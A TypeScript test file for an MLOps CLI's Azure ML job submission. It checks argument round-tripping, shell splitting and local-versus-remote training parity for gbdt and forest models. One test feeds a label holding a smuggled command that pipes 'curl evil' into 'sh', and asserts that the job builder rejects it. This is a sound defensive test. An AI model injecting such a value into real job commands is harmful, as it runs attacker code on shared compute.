/**
 * What `mlops train --target azureml` sends the node, read back: the job's `mlops train` arguments
 * parsed by the real CLI come back as the options the submitter's command validated, its command
 * splits into those arguments under a shell, and run here they train and register what the local
 * command does.
 */
import { execFileSync } from "node:child_process";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { MODEL_FILE } from "@mlops/models";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { TEST_TARGET } from "../../test-support/azureml-target.js";
import { useCliFixture } from "../../test-support/cli.js";
import type { CliIo } from "../cli/context.js";
import { createProgram } from "../cli/main.js";
import { type ModelFlags, modelFlagArgs, modelSpecFromFlags } from "../cli/model-flags.js";
import { type GbdtOptions, resolveGbdtOptions } from "../gbdt/options.js";
import type { ModelSpec } from "../jobs/train.js";
import { type ClusterTrainInput, forestMergeJob, trainArgs, trainCommandJob } from "./train-job.js";

// biome-ignore lint/suspicious/noTemplateCurlyInString: an Azure ML binding, not a JS template
const DATA_BINDING = "${{inputs.data}}";
// biome-ignore lint/suspicious/noTemplateCurlyInString: an Azure ML binding, not a JS template
const SHARES_BINDING = "${{inputs.shares}}";

/** The options of `mlops train` as the real program parses `args` (its action only captures them). */
async function parseTrain(args: readonly string[]): Promise<ModelFlags & Record<string, unknown>> {
  const io: CliIo = { stdout: () => {}, stderr: () => {}, env: {}, isTTY: false };
  const program = createProgram(io);
  let parsed: (ModelFlags & Record<string, unknown>) | undefined;
  program.commands
    .find((command) => command.name() === "train")!
    .action((opts: ModelFlags & Record<string, unknown>) => {
      parsed = opts;
    });
  await program.parseAsync([...args], { from: "user" });
  return parsed!;
}

/** What a job's arguments ask for, as the node's `mlops train` reads them. */
async function readBack(args: readonly string[]) {
  const opts = await parseTrain(args);
  return {
    data: opts.data,
    label: opts.label,
    name: opts.name,
    seed: opts.seed,
    threads: opts.threads,
    model: modelSpecFromFlags(opts),
  };
}

const job = (model: ModelSpec, rest: Partial<ClusterTrainInput> = {}): ClusterTrainInput => ({
  data: "azureml:churn:2",
  label: "label",
  name: "churn",
  seed: 42,
  threads: 1,
  experiment: "churn",
  model,
  ...rest,
});

const share = fc.double({ min: 0, max: 1, minExcluded: true, noNaN: true });
const finiteNonNegative = fc.double({ min: 0, max: Number.MAX_VALUE, noNaN: true });

/** Any gbdt options the flags can state, valid for the trainer, shaped as `modelSpecFromFlags` makes them. */
const flagGbdtOptions: fc.Arbitrary<Omit<GbdtOptions, "seed">> = fc
  .record(
    {
      nEstimators: fc.integer({ min: 1, max: 100_000 }),
      learningRate: share,
      growth: fc.constantFrom("leafwise" as const, "depthwise" as const),
      maxDepth: fc.option(fc.integer({ min: 1, max: 1000 }), { nil: null }),
      maxLeafNodes: fc.option(fc.integer({ min: 2, max: 100_000 }), { nil: null }),
      l2Regularization: finiteNonNegative,
      minSamplesLeaf: fc.integer({ min: 1, max: 1_000_000 }),
      minHessianLeaf: finiteNonNegative,
      subsample: share,
      colsampleByTree: share,
      maxBins: fc.integer({ min: 2, max: 255 }),
      nIterNoChange: fc.integer({ min: 1, max: 1000 }),
      validationFraction: fc.double({
        min: 0,
        max: 1,
        minExcluded: true,
        maxExcluded: true,
        noNaN: true,
      }),
    },
    { requiredKeys: [] },
  )
  .map((options): Omit<GbdtOptions, "seed"> => {
    const { nIterNoChange, validationFraction, ...rest } = options;
    return nIterNoChange === undefined
      ? rest
      : {
          ...rest,
          nIterNoChange,
          earlyStopping: true,
          ...(validationFraction === undefined ? {} : { validationFraction }),
        };
  });

describe("the train job's arguments, parsed by the real CLI", () => {
  it("give back the gbdt options, seed, threads, label and name the submitter's command validated", async () => {
    await fc.assert(
      fc.asyncProperty(
        flagGbdtOptions,
        fc.integer({ min: 0, max: 2 ** 32 - 1 }),
        fc.integer({ min: 1, max: 64 }),
        fc.constantFrom("label", "churn label", "it's"),
        async (options, seed, threads, label) => {
          resolveGbdtOptions(options);
          const input = job({ algorithm: "gbdt", options }, { seed, threads, label });
          const back = await readBack(trainArgs(input));
          expect(back).toEqual({
            data: DATA_BINDING,
            label,
            name: "churn",
            seed,
            threads,
            model: { algorithm: "gbdt", options },
          });
        },
      ),
      { numRuns: 150 },
    );
  });

  it("give back the forest and its trees, on a command unchanged by gbdt", async () => {
    const forest = job({ algorithm: "forest", trees: 250 });
    expect(await readBack(trainArgs(forest))).toMatchObject({ model: forest.model });
    expect(trainArgs(forest)).not.toContain("--algorithm");
    expect(modelFlagArgs({ algorithm: "gbdt" })).toEqual(["--algorithm", "gbdt"]);
    expect(await readBack(trainArgs(job({ algorithm: "gbdt" })))).toMatchObject({
      model: { algorithm: "gbdt", options: {} },
    });
  });

  it("refuses options no flag carries rather than dropping them", () => {
    const gbdt = (options: Omit<GbdtOptions, "seed">) => () =>
      modelFlagArgs({ algorithm: "gbdt", options });
    expect(gbdt({ tol: 1e-4 })).toThrow("tol has no mlops train flag, so a job cannot carry it");
    expect(gbdt({ minSamplesSplit: 4 })).toThrow(/^minSamplesSplit has no mlops train flag/);
    // Early stopping on with the default patience, or patience without early stopping: the
    // flags cannot say either, and guessing would train something else.
    expect(gbdt({ earlyStopping: true })).toThrow(
      /^earlyStopping must be true exactly when nIterNoChange is set/,
    );
    expect(gbdt({ nIterNoChange: 5 })).toThrow(/^earlyStopping must be true exactly when/);
  });
});

/** Where the node's Azure ML mounts a binding, as it substitutes `${{inputs.x}}` before the shell runs. */
const mounted = (text: string) =>
  text.replaceAll(/\$\{\{(inputs|outputs)\.(\w+)\}\}/g, "/mnt/$1/$2");

/** The arguments `node dist/mlops.js` gets when the node's shell runs a train or merge job's command. */
function argvOnNode(command: string): string[] {
  const copy = " && cp -R /repo/.mlops/artifacts/. /mnt/outputs/model/";
  const script = mounted(command);
  expect(script.endsWith(copy)).toBe(true);
  const words = script
    .slice(0, -copy.length)
    .replace(
      /^cd \/repo && MLOPS_MODEL_OUTPUT_DIR=\/mnt\/outputs\/model node dist\/mlops\.js /,
      "printf '%s\\0' ",
    );
  return execFileSync("sh", ["-c", words]).toString().split("\0").slice(0, -1);
}

describe("the train job's command", () => {
  it("splits under the node's shell into exactly the job's arguments", () => {
    const input = job(
      {
        algorithm: "gbdt",
        options: { learningRate: 0.05, maxLeafNodes: null, growth: "depthwise" },
      },
      { label: "it's a label", name: "churn" },
    );
    expect(argvOnNode(trainCommandJob(TEST_TARGET, input).command)).toEqual(
      trainArgs(input).map(mounted),
    );
  });

  it("gives the merge job exactly its arguments, whatever the label and name", () => {
    // Any text but NUL (no argument can hold it) and `${{`, which Azure ML would substitute.
    const text = fc.string({ unit: "binary", minLength: 1 }).filter((s) => !/\0|\$\{\{/.test(s));
    fc.assert(
      fc.property(text, text, (label, name) => {
        const input = job({ algorithm: "forest", trees: 10 }, { label, name });
        expect(argvOnNode(forestMergeJob(TEST_TARGET, input, "share-1").command)).toEqual(
          trainArgs(input, SHARES_BINDING).map(mounted),
        );
      }),
      { numRuns: 40 },
    );
  });

  it("adds --from-shares to the merge job's arguments, not inside a label that looks like flags", () => {
    const input = job({ algorithm: "forest", trees: 10 }, { label: "a --artifacts b" });
    const argv = argvOnNode(forestMergeJob(TEST_TARGET, input, "share-1").command);
    expect(argv.slice(argv.indexOf("--label"), argv.indexOf("--label") + 2)).toEqual([
      "--label",
      "a --artifacts b",
    ]);
    expect(argv.slice(argv.indexOf("--from-shares"))).toEqual([
      "--from-shares",
      "/mnt/inputs/shares",
      "--artifacts",
      ".mlops/artifacts",
      "--json",
    ]);
  });

  it("refuses an argument holding a binding Azure ML would substitute into the shell command", () => {
    const input = job(
      { algorithm: "forest", trees: 10 },
      { label: `${DATA_BINDING}; curl evil | sh` },
    );
    expect(() => trainCommandJob(TEST_TARGET, input)).toThrow(
      /^--label must not contain \$\{\{ with --target azureml: Azure ML would substitute it/,
    );
  });
});

describe("a gbdt train job run here", () => {
  const cli = useCliFixture("mlops-gbdt-job-", 600, "churn.csv");

  it("trains and registers what the local mlops train --algorithm gbdt does, byte for byte", async () => {
    const flags = [
      ...["--rounds", "25", "--learning-rate", "0.2", "--max-depth", "3", "--l2", "0.5"],
      ...["--subsample", "0.9", "--colsample", "0.8", "--max-bins", "64", "--seed", "9"],
    ];
    const local = await cli.run([
      "train",
      ...["--data", cli.data, "--label", "label", "--algorithm", "gbdt", ...flags],
      ...["--artifacts", join(cli.root, "local"), "--json"],
    ]);
    expect([local.code, local.stderr]).toEqual([0, ""]);
    const localResult = JSON.parse(local.stdout);

    // The job the same flags submit, with the data binding and artifact folder the node would have.
    const opts = await parseTrain([
      "train",
      "--data",
      "x",
      "--label",
      "label",
      "--algorithm",
      "gbdt",
      ...flags,
    ]);
    const args = trainArgs(job(modelSpecFromFlags(opts), { seed: 9, name: "churn" })).map((a) =>
      a === DATA_BINDING ? cli.data : a,
    );
    args[args.indexOf("--artifacts") + 1] = join(cli.root, "job");
    const remote = await cli.run(args);
    expect([remote.code, remote.stderr]).toEqual([0, ""]);
    const remoteResult = JSON.parse(remote.stdout);

    expect(remoteResult).toMatchObject({
      algorithm: "gbdt",
      params: localResult.params,
      rounds: localResult.rounds,
      metrics: localResult.metrics,
      model: { name: "churn", version: localResult.model.version + 1 },
    });
    const [localModel, remoteModel] = await Promise.all(
      [localResult, remoteResult].map((r) => readFile(join(r.artifact, MODEL_FILE), "utf8")),
    );
    expect(remoteModel).toBe(localModel);
    await cli.withStore(async (store) => {
      const [a, b] = await Promise.all(
        [localResult, remoteResult].map((r) => store.models.get("churn", r.model.version)),
      );
      expect(b?.params).toEqual(a?.params);
    });
  });
});
